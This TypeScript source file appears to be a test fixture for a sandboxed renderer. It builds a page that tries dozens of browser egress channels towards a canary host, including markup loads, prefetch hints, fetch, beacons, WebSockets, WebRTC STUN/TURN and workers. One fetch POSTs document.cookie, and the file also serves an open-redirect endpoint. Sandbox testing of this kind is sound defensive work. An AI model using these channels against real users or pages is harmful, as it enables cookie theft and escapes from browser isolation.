import type { Canary } from '../canary.js';
import { type HostileKind, html, script } from '../kind.js';

/** Said when every way was tried: how many there are. */
export const ESCAPE_SAYS = (ways: number): string => `All of ${ways} ways were tried.`;

/**
 * Ways out by markup. `{http}`, `{https}`, `{name}` stand for the addresses of the canary: `{name}` is a host name that only a
 * look-up can find. Each has a path of its own, so that what sings tells which way was open.
 */
const MARKUP: Readonly<Record<string, string>> = {
  img: '<img src="{http}/img">',
  srcset: '<img srcset="{http}/srcset 2x">',
  script: '<script src="{http}/script"></script>',
  style: '<link rel="stylesheet" href="{http}/style">',
  'style-import': '<style>@import url({http}/style-import);</style>',
  'style-image': '<div style="background:url({http}/style-image);width:9px;height:9px"></div>',
  font: '<style>@font-face{font-family:f;src:url({http}/font)}p{font-family:f}</style><p>f</p>',
  iframe: '<iframe src="{http}/iframe"></iframe>',
  srcdoc: `<iframe srcdoc="<img src='{http}/srcdoc'>"></iframe>`,
  object: '<object data="{http}/object"></object>',
  embed: '<embed src="{http}/embed">',
  video: '<video src="{http}/video" poster="{http}/poster" autoplay></video>',
  track: '<video><track src="{http}/track" default></video>',
  audio: '<audio src="{http}/audio" autoplay></audio>',
  svg: '<svg><image href="{http}/svg"/></svg>',
  preload: '<link rel="preload" as="script" href="{http}/preload">',
  modulepreload: '<link rel="modulepreload" href="{http}/modulepreload">',
  prefetch: '<link rel="prefetch" href="{http}/prefetch">',
  prerender: '<link rel="prerender" href="{http}/prerender">',
  preconnect: '<link rel="preconnect" href="{https}">',
  'dns-prefetch': '<link rel="dns-prefetch" href="//dns.{name}">',
  'name-img': '<img src="http://img.{name}/name-img">',
  manifest: '<link rel="manifest" href="{http}/manifest">',
  icon: '<link rel="icon" href="{http}/icon">',
  speculation:
    '<script type="speculationrules">{"prerender":[{"source":"list","urls":["{http}/speculation"]}]}</script>',
  'ping-link': '<a id="ping" href="#x" ping="{http}/ping">x</a>',
  'redirected-img': '<img src="/escape/out?to={http}/redirected-img">',
  'https-img': '<img src="{https}/https-img">',
  csp: '<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src \'none\'; report-uri {http}/csp">',
};

/** Ways out by script. */
const CODE: Readonly<Record<string, string>> = {
  fetch: `fetch('{http}/fetch')`,
  'fetch-no-cors': `fetch('{http}/fetch-no-cors', { mode: 'no-cors', credentials: 'include' })`,
  'fetch-post': `fetch('{http}/fetch-post', { method: 'POST', body: document.cookie, mode: 'no-cors' })`,
  keepalive: `fetch('{http}/keepalive', { keepalive: true, mode: 'no-cors' })`,
  'fetch-redirected': `fetch('/escape/out?to={http}/fetch-redirected')`,
  'fetch-name': `fetch('http://fetch.{name}/fetch-name')`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', '{http}/xhr'); x.send()`,
  'xhr-sync': `const x = new XMLHttpRequest(); x.open('GET', '{http}/xhr-sync', false); x.send()`,
  beacon: `navigator.sendBeacon('{http}/beacon', 'x')`,
  ping: `document.getElementById('ping').click()`,
  'event-source': `new EventSource('{http}/event-source')`,
  websocket: `new WebSocket('{ws}/websocket')`,
  'websocket-tls': `new WebSocket('{wss}/websocket-tls')`,
  'websocket-name': `new WebSocket('ws://ws.{name}/websocket-name')`,
  import: `import('{http}/import')`,
  image: `new Image().src = '{http}/image'`,
  audio: `new Audio('{http}/audio-code').play()`,
  form: `const f = document.createElement('form'); f.action = '{http}/form'; f.target = 'elsewhere'; f.method = 'post'; document.body.append(f); f.submit()`,
  popup: `open('{http}/popup')`,
  worker: `new Worker(URL.createObjectURL(new Blob(["importScripts('{http}/worker')"])))`,
  'worker-fetch': `new Worker('/escape/worker.js')`,
  'shared-worker': `new SharedWorker('/escape/worker.js')`,
  'service-worker': `navigator.serviceWorker.register('/escape/worker.js', { scope: '/escape/' })`,
  worklet: `CSS.paintWorklet.addModule('{http}/worklet')`,
  'audio-worklet': `new AudioContext().audioWorklet.addModule('{http}/audio-worklet')`,
  stun: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{host}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
  turn: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:{host}?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
  'stun-name': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.{name}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
  webtransport: `new WebTransport('{https}/webtransport')`,
  font: `new FontFace('g', 'url({http}/font-code)').load()`,
  'xslt-document': `document.implementation.createHTMLDocument('').write('<img src="{http}/made-document">')`,
  payment: `new PaymentRequest([{ supportedMethods: '{https}/payment' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  usb: `navigator.usb.requestDevice({ filters: [] })`,
  serial: `navigator.serial.requestPort()`,
  hid: `navigator.hid.requestDevice({ filters: [] })`,
  bluetooth: `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
  'background-fetch': `navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('x', '{http}/background-fetch'))`,
  'script-element': `const s = document.createElement('script'); s.src = '{http}/script-element'; document.head.append(s)`,
  'refresh-frame': `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content="0;url={http}/refresh-frame">'; document.body.append(f)`,
  'data-frame': `const f = document.createElement('iframe'); f.src = 'data:text/html,<img src={http}/data-frame>'; document.body.append(f)`,
  'blob-frame': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src={http}/blob-frame>'], { type: 'text/html' })); document.body.append(f)`,
};

const WORKER = `
const tries = [
  () => fetch('{http}/worker-fetch'),
  () => new WebSocket('{ws}/worker-websocket'),
  () => new EventSource('{http}/worker-event-source'),
  () => new WebTransport('{https}/worker-webtransport'),
  () => importScripts('{http}/worker-import'),
];
for (const way of tries) { try { Promise.resolve(way()).catch(() => {}); } catch {} }
self.addEventListener('install', () => self.skipWaiting());
`;

/** Ways that are tried in all, those inside of workers not counted. */
export const ESCAPE_WAYS = Object.keys(MARKUP).length + Object.keys(CODE).length;

/** One page that tries every way out of the renderer that we know of, towards a canary, and says when it has. */
export function escapeKind(canary: Canary): HostileKind {
  const page = html('Escape', `${bodyOf(canary)}<script>${codeOf(canary)}</script>`);
  return {
    name: 'escape',
    pages: [
      {
        path: '/escape/',
        about: `${ESCAPE_WAYS} ways out of the guard, towards a canary`,
        ends: 'ready',
        says: [ESCAPE_SAYS(ESCAPE_WAYS)],
      },
    ],
    answer({ path, query }) {
      switch (path) {
        case '/escape/':
          return page;
        case '/escape/worker.js':
          return script(filled(WORKER, canary));
        case '/escape/out':
          return { status: 302, headers: { location: query.get('to') ?? '/' }, body: '' };
        default:
          return null;
      }
    },
  };
}

function bodyOf(canary: Canary): string {
  return filled(Object.values(MARKUP).join('\n'), canary);
}

function codeOf(canary: Canary): string {
  const ways = Object.values(CODE).map((code) => `async () => { ${filled(code, canary)}; }`);
  const said = `document.body.insertAdjacentHTML('beforeend', '<p>${ESCAPE_SAYS(ESCAPE_WAYS)}</p>');`;
  return `const ways = [${ways.join(',\n')}];\nfor (const way of ways) way().catch(() => {});\n${said}`;
}

function filled(text: string, { host, name }: Canary): string {
  return text
    .replaceAll('{https}', `https://${host}`)
    .replaceAll('{http}', `http://${host}`)
    .replaceAll('{wss}', `wss://${host}`)
    .replaceAll('{ws}', `ws://${host}`)
    .replaceAll('{host}', host)
    .replaceAll('{name}', name);
}
